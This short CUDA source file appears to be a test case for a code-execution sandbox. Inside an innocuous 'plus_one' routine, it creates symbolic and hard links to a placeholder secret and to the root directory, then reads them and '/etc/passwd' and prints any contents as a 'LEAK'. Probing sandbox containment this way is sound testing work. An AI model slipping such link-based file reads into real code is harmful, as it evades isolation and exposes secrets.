// AC | 43 | symbolic and hard links to a secret in its folder | 
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
__global__ void k(int *out, const int *in, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}
extern "C" void plus_one(int *out, const int *in, int n) {
    symlink("@SECRET@", "secret");
    link("@SECRET@", "hard");
    symlink("/", "root");
    static const char *const files[] = {"secret", "hard", "root@SECRET@", "root/etc/passwd"};
    for (const char *f : files) {
        char b[256];
        int fd = open(f, O_RDONLY);
        ssize_t got = fd < 0 ? 0 : read(fd, b, sizeof b);
        if (got > 0) printf("LEAK: %s: %.*s\n", f, (int)got, b);
    }
    if (n) k<<<(n + 255) / 256, 256>>>(out, in, n);
}
